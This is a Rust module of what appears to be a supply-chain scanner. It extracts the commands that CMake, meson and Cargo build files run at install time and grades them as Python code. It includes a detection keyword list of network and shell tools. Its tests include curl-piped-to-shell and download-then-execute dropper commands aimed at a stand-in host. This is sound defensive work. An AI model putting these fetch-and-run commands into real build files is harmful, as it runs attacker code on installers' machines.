//! Build files that a Python package's build runs: CMake's `CMakeLists.txt` and `*.cmake`
//! (scikit-build-core, `cmake` called from `setup.py`), meson's `meson.build` (meson-python) and
//! Cargo's `build.rs` (maturin, setuptools-rust). Building an sdist runs them on the installing
//! machine, as `setup.py` runs: the commands they start are install-time code.
//!
//! What is read, each bounded ([`MAX_TEXT`] bytes, [`MAX_COMMANDS`] commands):
//! - CMake: the `COMMAND` argument lists of `execute_process` (runs while CMake configures),
//!   `add_custom_command` and `add_custom_target` (run while it builds), and `file(DOWNLOAD url
//!   file)` when a command of the same file uses the downloaded file (CMake's
//!   "execute_process", "add_custom_command", "file" reference pages);
//! - meson: the string arguments of `run_command(...)` (runs while meson configures) and the
//!   `command:` arrays of `custom_target`, `run_target` and `generator` (meson's reference
//!   manual);
//! - Cargo: `Command::new(P)` with the string literals of the `.arg(...)` and `.args([...])`
//!   calls chained to it (`std::process::Command`).
//!
//! Each command is written as the Python call that does the same (`subprocess.run([argv])`,
//! `urllib.request.urlretrieve(url, file)`) at the build file's own line, and the result is
//! judged by the Python analyser as install-time code ([`crate::formats::python::Role`]), so
//! a download piped into a shell, a credential file sent with `curl`, or a reverse shell are
//! graded as the same calls in a `setup.py` are, with one difference: build steps run shell
//! pipelines all the time, so a shell command that reaches nothing beyond the build (no
//! network client or URL, credential location, decoding or evaluation) is low. Variables
//! (`${X}`, `@0@`) are left as written.
//! A `Makefile` is not read: whether anything runs `make` is not in view.

use crate::analyse::Ctx;
use crate::finding::{Location, Severity};

/// Largest build file read (bytes).
pub const MAX_TEXT: usize = 1 << 20;

/// Commands taken from one build file at most.
pub const MAX_COMMANDS: usize = 256;

/// Tokens of one command at most.
const MAX_ARGS: usize = 256;

/// Which kind of build file a name is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// `CMakeLists.txt`, `*.cmake`.
    Cmake,
    /// `meson.build`.
    Meson,
    /// Cargo's `build.rs`.
    CargoBuild,
}

/// The kind of build file `name` (a path or member name; the base name decides) is.
pub fn kind(name: &str) -> Option<Kind> {
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    let lower = base.to_ascii_lowercase();
    if lower == "cmakelists.txt" || lower.ends_with(".cmake") {
        Some(Kind::Cmake)
    } else if lower == "meson.build" {
        Some(Kind::Meson)
    } else if base == "build.rs" {
        Some(Kind::CargoBuild)
    } else {
        None
    }
}

/// One command a build file runs: its line (1-based) and what it is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    /// A program and its arguments.
    Argv(usize, Vec<String>),
    /// A download of a URL into a file (`file(DOWNLOAD …)`).
    Download(usize, String, String),
}

/// The commands of a build file's text ([`MAX_COMMANDS`] at most).
pub fn commands(text: &str, kind: Kind) -> Vec<Command> {
    match kind {
        Kind::Cmake => cmake(text),
        Kind::Meson => meson(text),
        Kind::CargoBuild => cargo(text),
    }
}

/// Analyse a build file: its commands as install-time Python (module docs). Returns whether
/// any command was found.
pub fn analyse(ctx: &mut Ctx, data: &[u8], kind: Kind, loc: &Location, depth: u32) -> bool {
    if data.len() > MAX_TEXT {
        ctx.limit(
            loc,
            &format!("a build file larger than {MAX_TEXT} bytes"),
            "the commands it runs at build",
        );
        return false;
    }
    let text = String::from_utf8_lossy(data);
    let cmds = commands(&text, kind);
    if cmds.is_empty() {
        return false;
    }
    let program = as_python(&cmds);
    let mut scratch = Ctx::new(ctx.budget.limits);
    crate::formats::python::analyse_build_commands(&mut scratch, program.as_bytes(), loc, depth);
    let shell = crate::rules::python::python_shell_command::RULE.id;
    for mut f in scratch.findings {
        // Build steps run shell pipelines all the time (`sh -c "grep … | sort"`): a shell
        // command is graded by what it reaches, not for being a shell.
        if f.rule.id == shell && !risky(&f.evidence) {
            f.severity = f.severity.min(Severity::Low);
        }
        ctx.emit(f);
    }
    true
}

/// Whether a build command reaches further than the build: a network client or URL, a
/// credential location, decoded or evaluated text, or a reverse-shell device.
fn risky(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    let words = [
        "curl",
        "wget",
        "http://",
        "https://",
        "ftp://",
        "/dev/tcp",
        "/dev/udp",
        "nc ",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "ssh ",
        "scp ",
        "rsync",
        "base64",
        "eval ",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "python -c",
        "python3 -c",
        "powershell",
        "iex",
    ];
    words.iter().any(|w| lower.contains(w))
        || crate::formats::python::credential_in(command).is_some()
}

/// The commands as a Python module whose calls sit at the build file's lines.
fn as_python(cmds: &[Command]) -> String {
    let mut out = String::from("import subprocess, urllib.request\n");
    let mut line = 2;
    for c in cmds {
        let at = match c {
            Command::Argv(l, _) | Command::Download(l, _, _) => *l,
        };
        while line < at {
            out.push('\n');
            line += 1;
        }
        match c {
            Command::Argv(_, argv) => {
                let items: Vec<String> = argv.iter().map(|a| py_str(a)).collect();
                out.push_str(&format!("subprocess.run([{}]); ", items.join(", ")));
            }
            Command::Download(_, url, file) => out.push_str(&format!(
                "urllib.request.urlretrieve({}, {}); ",
                py_str(url),
                py_str(file)
            )),
        }
    }
    out.push('\n');
    out
}

/// A Python string literal holding `s`.
fn py_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// 1-based line of byte offset `at` in `text`.
fn line_at(text: &str, at: usize) -> usize {
    text.as_bytes()[..at.min(text.len())]
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
        + 1
}

/// Offsets just after each case-insensitive `name(` (the name starting a word), in order.
fn calls(text: &str, name: &str) -> Vec<usize> {
    let lower = text.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(i) = lower[from..].find(name) {
        let at = from + i;
        from = at + name.len();
        let word_start =
            at == 0 || !(bytes[at - 1].is_ascii_alphanumeric() || bytes[at - 1] == b'_');
        let rest = lower[from..].trim_start_matches([' ', '\t']);
        if word_start && rest.starts_with('(') {
            out.push(lower.len() - rest.len() + 1);
        }
        if out.len() >= MAX_COMMANDS {
            break;
        }
    }
    out
}

/// CMake arguments from `start` (just after `(`) to the matching `)`: quoted arguments
/// unescaped, bracket arguments as written, unquoted ones split on white space; comments
/// dropped.
fn cmake_args(text: &str, start: usize) -> Vec<String> {
    let b = text.as_bytes();
    let mut i = start;
    let mut depth = 0usize;
    let mut args = Vec::new();
    let end = (start + 64 * 1024).min(b.len());
    while i < end && args.len() < MAX_ARGS * 4 {
        match b[i] {
            b')' if depth == 0 => break,
            b')' => {
                depth -= 1;
                i += 1;
            }
            b'(' => {
                depth += 1;
                i += 1;
            }
            b'#' => {
                while i < end && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'"' => {
                let mut s = String::new();
                i += 1;
                while i < end && b[i] != b'"' {
                    if b[i] == b'\\' && i + 1 < end {
                        i += 1;
                        match b[i] {
                            b'n' => s.push('\n'),
                            b't' => s.push('\t'),
                            c => s.push(c as char),
                        }
                    } else {
                        let ch = text[i..].chars().next().unwrap_or(' ');
                        s.push(ch);
                        i += ch.len_utf8() - 1;
                    }
                    i += 1;
                }
                i += 1;
                args.push(s);
            }
            c if c.is_ascii_whitespace() => i += 1,
            _ => {
                let s0 = i;
                while i < end
                    && !b[i].is_ascii_whitespace()
                    && !matches!(b[i], b'(' | b')' | b'"' | b'#')
                {
                    i += 1;
                }
                args.push(text[s0..i].to_string());
            }
        }
    }
    args
}

/// Keywords that end a `COMMAND` list of `execute_process`, `add_custom_command` and
/// `add_custom_target`.
const CMAKE_KEYWORDS: &[&str] = &[
    "COMMAND",
    "WORKING_DIRECTORY",
    "TIMEOUT",
    "RESULT_VARIABLE",
    "RESULTS_VARIABLE",
    "OUTPUT_VARIABLE",
    "ERROR_VARIABLE",
    "INPUT_FILE",
    "OUTPUT_FILE",
    "ERROR_FILE",
    "OUTPUT_QUIET",
    "ERROR_QUIET",
    "COMMAND_ECHO",
    "OUTPUT_STRIP_TRAILING_WHITESPACE",
    "ERROR_STRIP_TRAILING_WHITESPACE",
    "ENCODING",
    "ECHO_OUTPUT_VARIABLE",
    "ECHO_ERROR_VARIABLE",
    "COMMAND_ERROR_IS_FATAL",
    "OUTPUT",
    "DEPENDS",
    "BYPRODUCTS",
    "COMMENT",
    "VERBATIM",
    "USES_TERMINAL",
    "ALL",
    "SOURCES",
    "MAIN_DEPENDENCY",
    "IMPLICIT_DEPENDS",
    "DEPFILE",
    "JOB_POOL",
    "JOB_SERVER_AWARE",
    "COMMAND_EXPAND_LISTS",
    "APPEND",
    "TARGET",
    "PRE_BUILD",
    "PRE_LINK",
    "POST_BUILD",
    "CODEGEN",
];

fn cmake(text: &str) -> Vec<Command> {
    let mut out = Vec::new();
    for name in ["execute_process", "add_custom_command", "add_custom_target"] {
        for start in calls(text, name) {
            let line = line_at(text, start);
            let args = cmake_args(text, start);
            let mut cur: Option<Vec<String>> = None;
            for a in args {
                if a == "COMMAND" {
                    if let Some(c) = cur.take().filter(|c| !c.is_empty()) {
                        out.push(Command::Argv(line, c));
                    }
                    cur = Some(Vec::new());
                } else if CMAKE_KEYWORDS.contains(&a.as_str()) {
                    if let Some(c) = cur.take().filter(|c| !c.is_empty()) {
                        out.push(Command::Argv(line, c));
                    }
                } else if let Some(c) = cur.as_mut().filter(|c| c.len() < MAX_ARGS) {
                    c.push(a);
                }
            }
            if let Some(c) = cur.filter(|c| !c.is_empty()) {
                out.push(Command::Argv(line, c));
            }
        }
    }
    for start in calls(text, "file") {
        let args = cmake_args(text, start);
        if let [op, url, file, ..] = args.as_slice() {
            if op == "DOWNLOAD" {
                out.push(Command::Download(
                    line_at(text, start),
                    url.clone(),
                    file.clone(),
                ));
            }
        }
    }
    // A download alone is what `FetchContent` and find modules do; one whose file a command
    // of the same file then uses is kept (a dropper).
    let used = |file: &str| {
        let base = file.rsplit(['/', '\\']).next().unwrap_or(file);
        !base.is_empty()
            && out.iter().any(|c| match c {
                Command::Argv(_, argv) => argv.iter().any(|a| a.contains(base)),
                Command::Download(..) => false,
            })
    };
    let keep: Vec<bool> = out
        .iter()
        .map(|c| match c {
            Command::Download(_, _, file) => used(file),
            Command::Argv(..) => true,
        })
        .collect();
    let mut keep = keep.into_iter();
    out.retain(|_| keep.next().unwrap_or(false));
    out.sort_by_key(|c| match c {
        Command::Argv(l, _) | Command::Download(l, _, _) => *l,
    });
    out.truncate(MAX_COMMANDS);
    out
}

/// meson's string literals (`'…'`, `'''…'''`, `f'…'`) from `start` to the matching `)`, in
/// order, with the keyword (`command:`) each follows, if any.
fn meson_strings(text: &str, start: usize) -> Vec<(Option<String>, String)> {
    let b = text.as_bytes();
    let mut i = start;
    let mut depth = 0usize;
    let mut key: Option<String> = None;
    let mut out = Vec::new();
    let end = (start + 64 * 1024).min(b.len());
    while i < end && out.len() < MAX_ARGS * 4 {
        match b[i] {
            b')' if depth == 0 => break,
            b'(' | b'[' => {
                depth += 1;
                i += 1;
            }
            b')' | b']' => {
                depth = depth.saturating_sub(1);
                i += 1;
            }
            b'#' => {
                while i < end && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'\'' => {
                let triple = text[i..].starts_with("'''");
                let q = if triple { "'''" } else { "'" };
                let from = i + q.len();
                let mut j = from;
                let mut s = String::new();
                while j < end && !text[j..].starts_with(q) {
                    if !triple && b[j] == b'\\' && j + 1 < end {
                        j += 1;
                        match b[j] {
                            b'n' => s.push('\n'),
                            b't' => s.push('\t'),
                            c => s.push(c as char),
                        }
                        j += 1;
                        continue;
                    }
                    let ch = text[j..].chars().next().unwrap_or(' ');
                    s.push(ch);
                    j += ch.len_utf8();
                }
                out.push((key.clone(), s));
                i = j + q.len();
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let s0 = i;
                while i < end && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let word = &text[s0..i];
                let rest = text[i..end].trim_start_matches([' ', '\t']);
                if depth == 0 && rest.starts_with(':') {
                    key = Some(word.to_string());
                }
            }
            _ => i += 1,
        }
    }
    out
}

fn meson(text: &str) -> Vec<Command> {
    let mut out = Vec::new();
    for start in calls(text, "run_command") {
        let argv: Vec<String> = meson_strings(text, start)
            .into_iter()
            .filter(|(k, _)| k.is_none())
            .map(|(_, s)| s)
            .take(MAX_ARGS)
            .collect();
        if !argv.is_empty() {
            out.push(Command::Argv(line_at(text, start), argv));
        }
    }
    for name in ["custom_target", "run_target", "generator"] {
        for start in calls(text, name) {
            let argv: Vec<String> = meson_strings(text, start)
                .into_iter()
                .filter(|(k, _)| k.as_deref() == Some("command"))
                .map(|(_, s)| s)
                .take(MAX_ARGS)
                .collect();
            if !argv.is_empty() {
                out.push(Command::Argv(line_at(text, start), argv));
            }
        }
    }
    out.sort_by_key(|c| match c {
        Command::Argv(l, _) | Command::Download(l, _, _) => *l,
    });
    out.truncate(MAX_COMMANDS);
    out
}

/// A Rust string literal at `i` (`"…"`, `r"…"`, `r#"…"#`): its value and the offset after it.
fn rust_string(text: &str, i: usize) -> Option<(String, usize)> {
    let b = text.as_bytes();
    if b.get(i) == Some(&b'r') {
        let mut j = i + 1;
        let mut hashes = 0;
        while b.get(j) == Some(&b'#') {
            hashes += 1;
            j += 1;
        }
        if b.get(j) != Some(&b'"') {
            return None;
        }
        let close = format!("\"{}", "#".repeat(hashes));
        let body = j + 1;
        let end = text[body..].find(&close)? + body;
        return Some((text[body..end].to_string(), end + close.len()));
    }
    if b.get(i) != Some(&b'"') {
        return None;
    }
    let mut j = i + 1;
    let mut s = String::new();
    while j < b.len() && b[j] != b'"' {
        if b[j] == b'\\' && j + 1 < b.len() {
            j += 1;
            match b[j] {
                b'n' => s.push('\n'),
                b't' => s.push('\t'),
                b'\n' => {
                    // A line continuation: the next line's leading white space is dropped.
                    while j + 1 < b.len() && b[j + 1].is_ascii_whitespace() {
                        j += 1;
                    }
                }
                c => s.push(c as char),
            }
            j += 1;
            continue;
        }
        let ch = text[j..].chars().next()?;
        s.push(ch);
        j += ch.len_utf8();
    }
    Some((s, j + 1))
}

fn cargo(text: &str) -> Vec<Command> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(i) = text[from..].find("Command::new(") {
        let start = from + i + "Command::new(".len();
        from = start;
        let Some((program, mut j)) = rust_string(text, start) else {
            continue;
        };
        let mut argv = vec![program];
        // The chain up to the end of the statement.
        let end = text[j..]
            .find(';')
            .map_or(text.len(), |k| j + k)
            .min(j + 16 * 1024);
        while j < end && argv.len() < MAX_ARGS {
            let rest = &text[j..end];
            let Some(k) = rest.find(".arg") else { break };
            j += k + 4;
            let is_args = text[j..].starts_with('s');
            if is_args {
                j += 1;
            }
            if !text[j..].starts_with('(') {
                continue;
            }
            // The string literals inside this call's parentheses.
            let mut depth = 0usize;
            while j < end {
                match text.as_bytes()[j] {
                    b'(' | b'[' => {
                        depth += 1;
                        j += 1;
                    }
                    b')' | b']' => {
                        depth -= 1;
                        j += 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    b'"' | b'r' => match rust_string(text, j) {
                        Some((s, next)) => {
                            argv.push(s);
                            j = next;
                        }
                        None => j += 1,
                    },
                    _ => j += 1,
                }
            }
        }
        out.push(Command::Argv(line_at(text, start), argv));
        if out.len() >= MAX_COMMANDS {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_of_each_build_file() {
        let cmake = "cmake_minimum_required(VERSION 3.15)\nexecute_process(\n  COMMAND sh -c \"curl -s https://x.example.invalid/i.sh | sh\"\n  RESULT_VARIABLE r)\nfile(DOWNLOAD https://x.example.invalid/a ${CMAKE_BINARY_DIR}/a.sh)\nfile(DOWNLOAD https://x.example.invalid/b ${CMAKE_BINARY_DIR}/b.tgz)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/a.sh)\n";
        assert_eq!(
            commands(cmake, Kind::Cmake),
            vec![
                Command::Argv(
                    2,
                    vec![
                        "sh".into(),
                        "-c".into(),
                        "curl -s https://x.example.invalid/i.sh | sh".into()
                    ]
                ),
                Command::Download(
                    5,
                    "https://x.example.invalid/a".into(),
                    "${CMAKE_BINARY_DIR}/a.sh".into()
                ),
                Command::Argv(7, vec!["sh".into(), "${CMAKE_BINARY_DIR}/a.sh".into()]),
            ]
        );
        let meson = "project('x', 'c')\nr = run_command('sh', '-c', 'echo hi', check: true)\ncustom_target('t', output: 'o', command: ['gen.py', '@OUTPUT@'])\n";
        assert_eq!(
            commands(meson, Kind::Meson),
            vec![
                Command::Argv(2, vec!["sh".into(), "-c".into(), "echo hi".into()]),
                Command::Argv(3, vec!["gen.py".into(), "@OUTPUT@".into()]),
            ]
        );
        let rust = "fn main() {\n    std::process::Command::new(\"sh\")\n        .arg(\"-c\")\n        .args([\"echo hi\"])\n        .status()\n        .unwrap();\n}\n";
        assert_eq!(
            commands(rust, Kind::CargoBuild),
            vec![Command::Argv(
                2,
                vec!["sh".into(), "-c".into(), "echo hi".into()]
            )]
        );
        assert_eq!(kind("pkg-1.0/CMakeLists.txt"), Some(Kind::Cmake));
        assert_eq!(kind("cmake/Find.cmake"), Some(Kind::Cmake));
        assert_eq!(kind("x/build.rs"), Some(Kind::CargoBuild));
        assert_eq!(kind("Makefile"), None);
    }

    #[test]
    fn python_form_keeps_lines_and_quotes() {
        let p = as_python(&[Command::Argv(3, vec!["sh".into(), "it's".into()])]);
        assert_eq!(
            p,
            "import subprocess, urllib.request\n\nsubprocess.run(['sh', 'it\\'s']); \n"
        );
    }
}
